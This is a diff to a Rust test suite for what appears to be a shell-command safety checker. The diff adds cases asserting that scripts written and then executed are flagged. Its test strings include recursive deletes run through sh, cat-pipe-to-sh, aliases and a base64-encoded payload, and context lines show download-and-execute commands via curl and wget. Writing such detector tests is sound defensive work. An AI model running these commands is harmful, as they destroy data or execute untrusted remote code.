@@ -27,6 +27,9 @@ fn scripts_written_then_run_are_analysed() {
         "echo 'rm -rf d' > a; cp a b; sh b",
         "echo 'rm -rf d' > a; mv a b; sh b",
         "sh -c \"echo 'rm -rf d' > f\"; sh f",
+        "echo 'rm -rf d' > f; sh -c \"$(<f)\"",
+        "echo 'rm -rf d' > f; cat f | sh",
+        "echo \"alias x='rm -rf'\" > a; . ./a; x d",
     ] {
         flagged(cmd, Category::RecursiveDelete);
     }
@@ -42,6 +45,11 @@ fn scripts_written_then_run_are_analysed() {
         "curl -o i.sh https://x.io/i; sh i.sh",
         Category::RemoteCodeExecution,
     );
+    let v = flagged(
+        "echo cm0gLXJmIGQ= | base64 -d > f; sh f",
+        Category::RecursiveDelete,
+    );
+    assert!(v.categories.contains(&Category::DynamicCommand), "{v:?}");
     flagged(
         "wget -O i.sh https://x.io/i && bash i.sh",
         Category::RemoteCodeExecution,
